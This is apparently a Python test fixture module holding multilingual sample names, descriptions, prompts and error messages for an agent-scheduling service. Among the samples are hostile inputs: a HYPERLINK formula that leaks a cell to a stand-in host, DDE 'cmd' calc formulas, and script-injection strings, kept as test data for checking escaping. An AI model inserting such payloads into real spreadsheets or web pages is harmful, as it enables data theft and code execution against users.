"""What people call things: names, descriptions, prompts and messages in many scripts, some of them hostile.

Only text; who bears it is decided where records are written. All of it may arrive from the real service, since
its callers write it.
"""

# ruff: noqa: RUF001, E501, ISC004 - text in many scripts, as people write it, a paragraph a value

from __future__ import annotations

#: Name and description of examples that an account of some dozen deployments has, in this order.
EXAMPLES = (
    ("每日销售日报", "汇总昨日订单，按区域、渠道拆分；异常波动超过 20% 时在群里提醒。"),
    ('=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1-800-555-0100, call before changing"),
    ("<img src=x onerror=alert(1)>", "<script>alert('description')</script> & \"quotes\""),
    ("Nightly backup, verify & report", 'Checks "cold" and "hot" copies, then writes\nline one\r\nline two\n'),
    ("تقرير المبيعات اليومي", "يجمع طلبات الأمس ويرسل ملخصًا قصيرًا إلى الفريق."),
    ("Еженедельный отчёт", "Собирает метрики за неделю; при сбое — повторить вручную."),
    ("🚀 release notes 👩‍💻", "Drafts release notes 📝 from merged pull requests 🎉"),
    ("דוח שבועי", "מסכם את השבוע"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
    ("週次レポート（東京）", "先週の問い合わせを分類し、上位の原因をまとめる。"),
    ("주간 보안 점검", "열린 포트와 만료 예정 인증서를 확인한다."),
    ("साप्ताहिक रिपोर्ट", "पिछले सप्ताह की गतिविधि का सारांश"),
    ("Zoë’s naïve café ☕ test", "Combining: é ñ; \u202eright to left\u202c; zero\u200bwidth; tab\there"),
    ("=1+1", "＝full width, ＋ and － and ＠"),
    ("Αναφορά κόστους", "Κόστος ανά ομάδα, σε €; ελέγχει τα όρια."),
    ("รายงานประจำวัน", "สรุปยอดขายเมื่อวาน"),
    ("a name that is as long as a name may be, because somebody pasted the first paragraph of the ticket into it " * 2, ""),
)  # fmt: skip

_TASKS = (
    "daily report", "invoice check", "log triage", "dependency update", "inbox summary", "price watch",
    "churn forecast", "data quality", "backup audit", "release notes", "cost digest", "support labels",
    "contract review", "stock sync", "translation", "meeting notes", "security scan", "survey digest",
    "库存同步", "舆情监测", "客服质检", "数据校验", "周报汇总", "合同审阅", "отчёт по затратам", "проверка счетов",
    "تدقيق الفواتير", "在庫チェック", "リリースノート", "Rechnungsprüfung", "résumé des ventes",
)  # fmt: skip
_SUBJECTS = (
    "billing", "eu-west", "华东", "华南", "search", "mobile", "retail", "finance", "legal", "platform", "growth",
    "warehouse", "checkout", "partner API", "Москва", "القاهرة", "東京", "São Paulo", "Zürich", "internal",
)  # fmt: skip
#: 620 names for the many; a number is put behind when they repeat.
NAMES = tuple(f"{subject} {task}" for task in _TASKS for subject in _SUBJECTS)

DESCRIPTIONS = (
    "Reads yesterday's records, compares them with the same weekday of the last four weeks, and says what changed.",
    "Runs before the stand-up. Owner changes every sprint; ask in the channel first.",
    "按团队汇总昨日数据，生成摘要并发送到指定群组；失败时自动重试。",
    "Prüft alle offenen Rechnungen, meldet Abweichungen über 2 %, und legt Tickets an.",
    "Собирает журналы за ночь и группирует ошибки по причине.",
    'Temporary, to be replaced by the event-driven one; see the design note, section 4, "hand-over".',
    "",
)  # fmt: skip

PROMPTS = (
    "Generate today's status report. Start with what changed since the last one, then list open risks with their "
    "owners, and end with three numbers: runs, failures, cost. Keep it below two hundred words. If a source cannot "
    "be read, say which one and continue with the others; do not guess.",
    "读取昨日全部工单，按产品线与严重程度分类，给出前五个根因，并为每个根因写一条可执行的改进建议。"
    "无法归类的工单单独列出，不要猜测。最后用一句话总结趋势，与上周同日比较。",
    "Review every dependency that has a newer minor version. For each: read its change log, note anything that "
    "breaks us, run the tests of the affected package, and open a draft change with a summary. Skip what is pinned "
    "with a reason. Never touch the lock file by hand.",
    "Vergleiche die Lagerbestände der drei Standorte mit den Bestellungen der Woche. Liste Artikel, die in weniger "
    "als fünf Tagen ausgehen, mit Lieferzeit und Vorschlag. Rechne mit Feiertagen. Schreibe kurz und ohne Wertung.",
    "Проверь журналы за последние сутки: новые ошибки, их частоту и первый момент появления. Сгруппируй по причине, "
    "приложи по одному примеру на группу и предложи, что проверить сначала. Известные ошибки не повторяй.",
)
SYSTEM_PROMPT = "You work unattended. Ask nobody. When in doubt, stop and say why. Write times in UTC."
OUTCOME = "A report that a reader who was on holiday understands, with a source for every number."
RUBRIC = "Every number has a source; every risk has an owner; nothing is longer than it needs to be."

TEAMS = ("data", "platform", "growth", "finance", "support", "安全", "sre", "legal & risk")
OWNERS = (
    "li.na",
    "maria",
    "o'brien",
    "zhang.wei",
    "ivan",
    "fatima",
    "kenji",
    "ana.souza",
    "tom",
    "priya",
    "李娜",
    "sofía",
)

#: Messages by error type, in the order of `runs.ERRORS`.
MESSAGES = (
    ("The session did not finish within {timeout} ms.",),
    (
        "Tool `bash` exited with status 127: sh: 1: jq: not found",
        "Tool `web_fetch` failed: <html><body>502 Bad Gateway</body></html>",
        'Tool `sql` failed: relation "orders, 2026" does not exist\nLINE 1: select * from "orders, 2026"',
        "=cmd|'/C calc'!A0",
    ),
    ("Rate limit of the model was exceeded; retry after 30 s.", "Kontingent erschöpft: 1.000.000 Token / Tag"),
    ("The model is overloaded.", "模型暂时过载，请稍后重试。"),
    ("Vault item is not readable by this agent.", "403 for https://git.example.invalid/acme/<private>?a=1&b=2"),
    ("Internal error.", "unexpected EOF", "Внутренняя ошибка <script>alert(document.domain)</script>"),
)
PAUSE_ERRORS = ("consecutive_failures", "agent_archived", "environment_not_found", "billing_error")
